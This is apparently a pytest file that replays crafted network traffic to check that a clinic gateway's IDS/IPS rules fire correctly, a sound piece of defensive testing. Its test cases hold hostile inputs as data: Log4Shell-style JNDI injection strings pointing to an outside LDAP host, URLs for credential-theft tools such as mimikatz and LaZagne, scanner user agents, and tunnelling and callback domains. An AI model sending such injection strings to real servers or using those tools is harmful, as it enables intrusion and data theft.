"""The default signature set (signatures/rules/clinic.rules): every rule loads, is well formed, and does
what its message says on crafted traffic replayed through `gateway replay --ips`.

The table CASES gives every rule at least one positive and one negative conversation. All of them go into
one capture (each on its own client address, so flows, thresholds and IPS drops never touch each other),
replayed once; each table row then checks its own flows' events.
"""
from __future__ import annotations

import ipaddress
import json
import re
import struct
from pathlib import Path

import pytest
from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP
from scapy.layers.l2 import Ether
from scapy.utils import wrpcap

from gateway.cli import main
from gateway.ids.classification import load_classifications
from gateway.ids.rules import load_rules
from gateway.ids.vars import Variables

from .conftest import tcp, udp

REPO = Path(__file__).resolve().parent.parent
SIGNATURES = REPO / "signatures"
CLINIC_RULES = SIGNATURES / "rules" / "clinic.rules"
CLASSIFICATION = SIGNATURES / "classification.config"

# 68 bytes, from eicar.org. Written with the backslash escaped; the file itself has one.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WAN = "198.18.0.10"                 # an internet server (not in $HOME_NET)
LAN_SERVER = "10.10.0.30"           # a published clinic server (in $HOME_NET)


@pytest.fixture(autouse=True)
def _hs_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("GATEWAY_HS_CACHE", str(tmp_path / "hs"))


# ----------------------------------------------------------------------------------------------- crafting

class Conversation:
    """A TCP conversation with correct sequence numbers: handshake, segments, FIN exchange."""

    MSS = 1400

    def __init__(self, client: str, server: str, cport: int = 40000, sport: int = 80):
        self.c, self.s, self.cport, self.sport = client, server, cport, sport
        self.cseq, self.sseq = 1000, 5000
        self.pkts = [self._tcp(client, server, cport, sport, "S", self.cseq),
                     self._tcp(server, client, sport, cport, "SA", self.sseq, self.cseq + 1),
                     self._tcp(client, server, cport, sport, "A", self.cseq + 1, self.sseq + 1)]
        self.cseq += 1
        self.sseq += 1

    @staticmethod
    def _tcp(*args) -> bytes:
        return tcp(*args, v6=":" in args[0])

    def send(self, data: bytes, from_client: bool) -> Conversation:
        for i in range(0, len(data), self.MSS):
            part = data[i:i + self.MSS]
            if from_client:
                self.pkts.append(self._tcp(self.c, self.s, self.cport, self.sport, "PA", self.cseq, self.sseq, part))
                self.cseq += len(part)
                self.pkts.append(self._tcp(self.s, self.c, self.sport, self.cport, "A", self.sseq, self.cseq))
            else:
                self.pkts.append(self._tcp(self.s, self.c, self.sport, self.cport, "PA", self.sseq, self.cseq, part))
                self.sseq += len(part)
                self.pkts.append(self._tcp(self.c, self.s, self.cport, self.sport, "A", self.cseq, self.sseq))
        return self

    def close(self) -> list[bytes]:
        self.pkts += [self._tcp(self.c, self.s, self.cport, self.sport, "FA", self.cseq, self.sseq),
                      self._tcp(self.s, self.c, self.sport, self.cport, "FA", self.sseq, self.cseq + 1),
                      self._tcp(self.c, self.s, self.cport, self.sport, "A", self.cseq + 1, self.sseq + 1)]
        return self.pkts


def http_get(client: str, path: str = "/", host: str = "www.example.com", ua: str = "Mozilla/5.0 (Windows NT "
             "10.0; Win64; x64)", body: bytes = b"<html>ok</html>\n", server: str = WAN,
             extra_headers: str = "", content_type: str = "application/octet-stream") -> list[bytes]:
    request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\nAccept: */*\r\n{extra_headers}\r\n"
               ).encode("latin-1")
    response = (f"HTTP/1.1 200 OK\r\nContent-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
                .encode() + body)
    return Conversation(client, server).send(request, True).send(response, False).close()


def http_get_raw_response(client: str, path: str, head: bytes, body: bytes) -> list[bytes]:
    """A GET answered with the given response head (status line and headers) and body bytes as sent."""
    request = f"GET {path} HTTP/1.1\r\nHost: www.example.com\r\nAccept: */*\r\n\r\n".encode()
    return Conversation(client, WAN).send(request, True).send(head + b"\r\n" + body, False).close()


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data)


def _chunked(data: bytes, size: int = 20) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(data[i:i + size]), data[i:i + size])
                    for i in range(0, len(data), size)) + b"0\r\n\r\n"


def dns_lookup(client: str, name: str, server: str = WAN) -> list[bytes]:
    query = DNS(id=0x1234, rd=1, qd=DNSQR(qname=name, qtype="A"))
    answer = DNS(id=0x1234, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="A"),
                 an=DNSRR(rrname=name, type="A", ttl=60, rdata="198.18.0.99"))
    return [udp(client, server, 53000, 53, bytes(query)), udp(server, client, 53, 53000, bytes(answer))]


def _ext(etype: int, body: bytes) -> bytes:
    return struct.pack("!HH", etype, len(body)) + body


def client_hello_record(sni: str) -> bytes:
    name = sni.encode()
    server_name = b"\x00" + struct.pack("!H", len(name)) + name
    exts = (_ext(0, struct.pack("!H", len(server_name)) + server_name) + _ext(10, b"\x00\x04\x00\x1d\x00\x17")
            + _ext(11, b"\x01\x00") + _ext(43, b"\x04\x03\x04\x03\x03"))
    body = (b"\x03\x03" + b"\x11" * 32 + b"\x00" + b"\x00\x04\x13\x01\xc0\x2f" + b"\x01\x00"
            + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def tls_hello(client: str, sni: str, server: str = WAN) -> list[bytes]:
    return Conversation(client, server, sport=443).send(client_hello_record(sni), True).close()


def syn(client: str, server: str, dport: int) -> list[bytes]:
    return [tcp(client, server, 40000, dport, "S", 1000)]


def _exe(size: int = 4096) -> bytes:
    """A minimal PE shape: MZ header, e_lfanew at 0x3c pointing at a PE signature."""
    head = bytearray(size)
    head[0:2] = b"MZ"
    head[0x3C:0x40] = struct.pack("<I", 0x80)
    head[0x4E:0x4E + 39] = b"This program cannot be run in DOS mode."
    head[0x80:0x84] = b"PE\x00\x00"
    return bytes(head)


def _clean(size: int) -> bytes:
    return bytes((i * 7 + 3) % 251 for i in range(size))


def _v6(client: str) -> str:
    """The IPv6 twin of a case's IPv4 client address (the replay fixture collects the events of both),
    written in full as EVE prints it."""
    return ipaddress.ip_address("2001:db8:{}:{}::{}:{}".format(*client.split("."))).exploded


POWERSHELL_UA = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3570"

# sid -> (positive conversations, negative conversations); each builder takes the client address.
CASES: dict[int, tuple[list, list]] = {
    9000001: ([lambda c: http_get(c, "/eicar.com", body=EICAR),
               # the body as the client gets it: gzip content-encoding undone, chunks joined
               lambda c: http_get_raw_response(c, "/eicar.com", b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n"
                                               b"Content-Length: %d\r\n" % len(_gzip(EICAR)), _gzip(EICAR)),
               lambda c: http_get_raw_response(c, "/eicar.com", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n",
                                               _chunked(EICAR)),
               # over IPv6, whatever $HOME_NET lists
               lambda c: http_get(_v6(c), "/eicar.com", body=EICAR, server="2001:db8:ffff::10")],
              [lambda c: http_get(c, "/clean.bin", body=_clean(len(EICAR))),
               # a web page quoting the string is not the test file
               lambda c: http_get(c, "/about-eicar.html", body=b"<p>The test string is " + EICAR + b"</p>",
                                  content_type="text/html")]),
    9000002: ([lambda c: http_get(c, "/update.exe", host=WAN, body=_exe()),
               lambda c: http_get(c, "/update.exe", host=WAN, body=_exe(60_000))],      # many segments
              [lambda c: http_get(c, "/update.exe", host="updates.vendor.example", body=_exe()),
               lambda c: http_get(c, "/readme.txt", host=WAN, body=b"MZ is a pair of letters, not a PE file\n")]),
    9000101: ([lambda c: http_get(c, "/tools/mimikatz.exe"), lambda c: http_get(c, "/x/mimikatz_trunk.zip?dl=1")],
              [lambda c: http_get(c, "/blog/what-is-mimikatz/")]),
    9000110: ([lambda c: http_get(c, "/LaZagne.exe")], [lambda c: http_get(c, "/news/lazagne-review.html")]),
    9000111: ([lambda c: http_get(c, "/a/Rubeus.exe")], [lambda c: http_get(c, "/rubeus-kerberos-explained")]),
    9000112: ([lambda c: http_get(c, "/SharpHound.ps1")], [lambda c: http_get(c, "/docs/sharphound/")]),
    9000102: ([lambda c: http_get(c, "/upload", ua="rclone/v1.65.2")],
              [lambda c: http_get(c, "/upload", ua="Mozilla/5.0 (compatible; not-rclone/v1)")]),
    9000103: ([lambda c: http_get(c, "/p.exe", ua="CertUtil URL Agent")],
              [lambda c: http_get(c, "/crl/root.crl", ua="Microsoft-CryptoAPI/10.0")]),
    9000104: ([lambda c: http_get(c, "/a.ps1", host=WAN, ua=POWERSHELL_UA)],
              [lambda c: http_get(c, "/a.ps1", host="scripts.vendor.example", ua=POWERSHELL_UA),
               lambda c: http_get(c, "/a.ps1", host=WAN)]),
    9000105: ([lambda c: http_get(c, "/", server=LAN_SERVER, host="booking.clinic.example",
                                  extra_headers="X-Api-Version: ${jndi:ldap://198.18.0.66/a}\r\n")],
              [lambda c: http_get(c, "/", server=LAN_SERVER, host="booking.clinic.example",
                                  extra_headers="X-Api-Version: jndi-1.2\r\n")]),
    9000106: ([lambda c: http_get(c, "/search?q=${jndi:ldap://198.18.0.66/a}", server=LAN_SERVER)],
              [lambda c: http_get(c, "/search?q=jndi+ldap", server=LAN_SERVER)]),
    9000107: ([lambda c: http_get(c, "/?id=1", server=LAN_SERVER, ua="sqlmap/1.7.2#stable (https://sqlmap.org)")],
              [lambda c: http_get(c, "/?id=1", server=LAN_SERVER, ua="Mozilla/5.0 (sqlmap tutorial reader)")]),
    9000108: ([lambda c: http_get(c, "/", server=LAN_SERVER, ua="Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) "
                                  "(Test:000001)")],
              [lambda c: http_get(c, "/nikto.html", server=LAN_SERVER)]),
    9000201: ([lambda c: syn(c, WAN, 445), lambda c: syn(c, WAN, 139)],
              [lambda c: syn(c, "10.10.0.20", 445)]),                 # SMB inside the clinic is normal
    9000202: ([lambda c: syn(c, WAN, 3389)], [lambda c: syn(c, "10.10.0.20", 3389)]),
    9000301: ([lambda c: dns_lookup(c, "clinic-pc.duckdns.org"), lambda c: dns_lookup(c, "DuckDNS.org")],
              [lambda c: dns_lookup(c, "notduckdns.org"), lambda c: dns_lookup(c, "duckdns.org.example.com")]),
    9000302: ([lambda c: dns_lookup(c, "x1.ddns.net")], [lambda c: dns_lookup(c, "myddns.net")]),
    9000303: ([lambda c: dns_lookup(c, "c2.hopto.org")], [lambda c: dns_lookup(c, "hopto.org.example")]),
    9000304: ([lambda c: dns_lookup(c, "c2.zapto.org")], [lambda c: dns_lookup(c, "nozapto.org")]),
    9000305: ([lambda c: dns_lookup(c, "ab12-198-18-0-1.ngrok-free.app"), lambda c: dns_lookup(c, "x.ngrok.io")],
              [lambda c: dns_lookup(c, "dashboard.ngrok.com")]),
    9000306: ([lambda c: dns_lookup(c, "tall-lion-x.trycloudflare.com")], [lambda c: dns_lookup(c, "cloudflare.com")]),
    9000307: ([lambda c: dns_lookup(c, "c59e3crp82ke7bcnedq0cd5ikfoyyyyyn.oast.fun")],
              [lambda c: dns_lookup(c, "www.oast.example.com")]),
    9000308: ([lambda c: dns_lookup(c, "abc.burpcollaborator.net")], [lambda c: dns_lookup(c, "portswigger.net")]),
    9000309: ([lambda c: dns_lookup(c, "x.abcd12.dnslog.cn")], [lambda c: dns_lookup(c, "dnslog.cn.example")]),
    9000901: ([lambda c: tls_hello(c, "www.ips-test.clinic-gateway.example"),
               lambda c: tls_hello(c, "ips-test.clinic-gateway.example")],
              [lambda c: tls_hello(c, "clinic-gateway.example"), lambda c: tls_hello(c, "ips-test.example.org")]),
}


def _load_default():
    return load_rules([CLINIC_RULES], Variables(), load_classifications(CLASSIFICATION))


# ----------------------------------------------------------------------------------------------- the set

def test_every_default_rule_loads_and_is_well_formed():
    ruleset = _load_default()
    assert ruleset.rejected == [], [(r.line, r.sid, r.reason, r.detail) for r in ruleset.rejected]
    sids = [r.sid for r in ruleset.rules]
    assert len(sids) == len(set(sids)) >= 20
    classtypes = set(re.findall(r"^config classification:\s*([^,]+),", CLASSIFICATION.read_text(),
                                re.MULTILINE))
    for r in ruleset.rules:
        assert 9_000_000 <= r.sid < 9_001_000, r.sid
        assert r.msg.startswith("CLINIC "), r.sid
        assert r.classtype in classtypes, (r.sid, r.classtype)
        assert r.rev >= 1 and r.metadata, r.sid
        assert r.action in ("drop", "alert"), r.sid
        # the metadata says what the rule does, so dashboards can filter on it
        does = "flowbit" if r.noalert else "block" if r.action == "drop" else "alert"
        assert ("clinic_action", does) in r.metadata, r.sid


def test_every_rule_has_positive_and_negative_cases():
    # silent flowbit setters are exercised through the rules that read their bit
    assert {r.sid for r in _load_default().rules if not r.noalert} == set(CASES)
    for sid, (positives, negatives) in CASES.items():
        assert positives and negatives, sid


def test_rules_check_cli_reports_nothing_rejected(capsys):
    assert main(["rules", "check", str(CLINIC_RULES), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["rejected"] == 0 and report["loaded"] == len(_load_default().rules) > len(CASES)


def test_the_set_directory_picks_up_the_default_rules():
    from gateway.signatures import SignatureSet

    assert CLINIC_RULES in SignatureSet.open(SIGNATURES).rule_files


# ----------------------------------------------------------------------------------------------- replay

def _write_pcap(path: Path, packets: list[bytes]) -> str:
    frames = [Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02") / IP(p) for p in packets]
    for i, f in enumerate(frames):
        f.time = 1_700_000_000 + i / 100
    wrpcap(str(path), frames)
    return str(path)


def _replay(pcap: str, eve: Path, ips: bool = True) -> list[dict]:
    argv = ["replay", "--no-progress", "--signatures", str(SIGNATURES), "--eve", str(eve), pcap]
    assert main(argv[:1] + (["--ips"] if ips else []) + argv[1:]) == 0
    return [json.loads(line) for line in eve.read_text().splitlines() if line.strip()]


def _client(n: int) -> str:
    """A client address per conversation: 10.10.x.y for lan clients, 198.18.x.y for internet ones."""
    return f"10.10.{1 + n // 250}.{1 + n % 250}"


def _external(n: int) -> str:
    return f"198.19.{n // 250}.{1 + n % 250}"


INBOUND = {9000105, 9000106, 9000107, 9000108}     # rules about traffic from the internet to a clinic server


@pytest.fixture(scope="module")
def replayed(tmp_path_factory):
    """Every case's conversations in one capture; returns {(sid, kind, i): [events of that client]}."""
    tmp = tmp_path_factory.mktemp("default-set")
    packets: list[bytes] = []
    clients: dict[tuple, str] = {}
    n = 0
    for sid, (positives, negatives) in CASES.items():
        for kind, builders in (("pos", positives), ("neg", negatives)):
            for i, build in enumerate(builders):
                client = _external(n) if sid in INBOUND else _client(n)
                clients[(sid, kind, i)] = client
                packets += build(client)
                n += 1
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("GATEWAY_HS_CACHE", str(tmp / "hs"))
        events = _replay(_write_pcap(tmp / "cases.pcap", packets), tmp / "eve.json")
    by_ip: dict[str, list[dict]] = {}
    for ev in events:
        for ip in {ev.get("src_ip"), ev.get("dest_ip")}:
            by_ip.setdefault(ip, []).append(ev)
    return {key: by_ip.get(ip, []) + by_ip.get(_v6(ip), []) for key, ip in clients.items()}


ACTIONS = {r.sid: r.action for r in _load_default().rules}


@pytest.mark.parametrize("sid", sorted(CASES))
def test_rule_fires_on_its_positive_cases_only(replayed, sid):
    positives, negatives = CASES[sid]
    for i in range(len(positives)):
        evs = replayed[(sid, "pos", i)]
        hits = [e for e in evs if e["event_type"] == "alert" and e["alert"]["signature_id"] == sid]
        assert len(hits) == 1, (sid, i, [e.get("alert") for e in evs])
        want = "blocked" if ACTIONS[sid] == "drop" else "allowed"
        assert hits[0]["alert"]["action"] == want, hits[0]
        flows = [e for e in evs if e["event_type"] == "flow"]
        if ACTIONS[sid] == "drop":
            assert flows and flows[0]["flow"]["action"] == "drop", flows
    for i in range(len(negatives)):
        evs = replayed[(sid, "neg", i)]
        alerts = [e["alert"]["signature_id"] for e in evs if e["event_type"] == "alert"]
        assert alerts == [], (sid, i, alerts)          # no rule of the set fires on a negative case
        assert all(e["flow"]["action"] == "pass" for e in evs if e["event_type"] == "flow"), evs


def test_eicar_download_is_blocked_and_a_clean_one_of_the_same_size_is_not(tmp_path, capsys):
    """The operator's check: the EICAR file never reaches the client, a clean file of its size does."""
    eicar = http_get("10.10.0.10", "/eicar.com", body=EICAR)
    eve = tmp_path / "eicar.json"
    events = _replay(_write_pcap(tmp_path / "eicar.pcap", eicar), eve)
    err = capsys.readouterr().err
    (alert,) = [e for e in events if e["event_type"] == "alert"]
    assert alert["alert"]["signature_id"] == 9000001 and alert["alert"]["action"] == "blocked"
    assert alert["alert"]["category"] == "Potentially Bad Traffic"
    assert alert["src_ip"] == WAN and alert["dest_ip"] == "10.10.0.10" and alert["app_proto"] == "http"
    assert alert["http"]["url"] == "/eicar.com"
    # the segment carrying the file and everything after it in the flow are dropped
    dropped = int(re.search(r"drop/ids=(\d+)", err).group(1))
    response_index = next(i for i, p in enumerate(eicar) if EICAR in p)
    assert dropped == len(eicar) - response_index, err

    clean = http_get("10.10.0.10", "/clean.bin", body=_clean(len(EICAR)))
    events = _replay(_write_pcap(tmp_path / "clean.pcap", clean), tmp_path / "clean.json")
    err = capsys.readouterr().err
    assert [e for e in events if e["event_type"] == "alert"] == []
    assert "drop" not in err, err


def test_without_ips_the_eicar_download_is_only_alerted(tmp_path, capsys):
    events = _replay(_write_pcap(tmp_path / "e.pcap", http_get("10.10.0.10", "/eicar.com", body=EICAR)),
                     tmp_path / "e.json", ips=False)
    (alert,) = [e for e in events if e["event_type"] == "alert"]
    assert alert["alert"]["action"] == "allowed"
    assert "drop" not in capsys.readouterr().err


def test_eicar_split_across_segments_is_still_blocked(tmp_path, capsys):
    """The file straddling two TCP segments (a header-heavy response) is found by the reassembled body."""
    conv = Conversation("10.10.0.10", WAN)
    conv.MSS = 100
    request = b"GET /eicar.com HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
    response = (b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nX-Pad: " + b"p" * 40
                + b"\r\nContent-Length: 68\r\n\r\n" + EICAR)
    events = _replay(_write_pcap(tmp_path / "s.pcap", conv.send(request, True).send(response, False).close()),
                     tmp_path / "s.json")
    sids = [(e["alert"]["signature_id"], e["alert"]["action"]) for e in events if e["event_type"] == "alert"]
    assert sids == [(9000001, "blocked")]


def test_the_default_set_loads_beside_et_open_without_sid_clashes():
    """An operator adds ET Open next to clinic.rules (signatures/README.md): nothing of ours is lost."""
    et = sorted((REPO / "tests" / "data" / "rules" / "et-open-sample").glob("emerging-*.rules"))
    ruleset = load_rules([CLINIC_RULES, *et], Variables(), load_classifications(CLASSIFICATION))
    assert not [r for r in ruleset.rejected if r.reason == "duplicate sid"]
    assert set(CASES) <= {r.sid for r in ruleset.rules}


def test_rules_mixing_request_and_response_buffers_are_refused_as_suricata_does(tmp_path):
    mixed = tmp_path / "mixed.rules"
    mixed.write_text(
        'alert http any any -> any any (msg:"m1"; http.method; content:"GET"; http.stat_code; content:"200"; '
        'sid:1; rev:1;)\n'
        'alert http any any -> any any (msg:"m2"; flow:established,to_client; http.host; content:"x"; '
        'file.data; content:"MZ"; sid:2; rev:1;)\n'
        'alert http any any -> any any (msg:"m3"; flow:established,to_server; http.stat_code; content:"200"; '
        'sid:3; rev:1;)\n')
    ruleset = load_rules([mixed], Variables(), load_classifications(CLASSIFICATION))
    assert sorted(r.sid for r in ruleset.rejected) == [1, 2, 3]
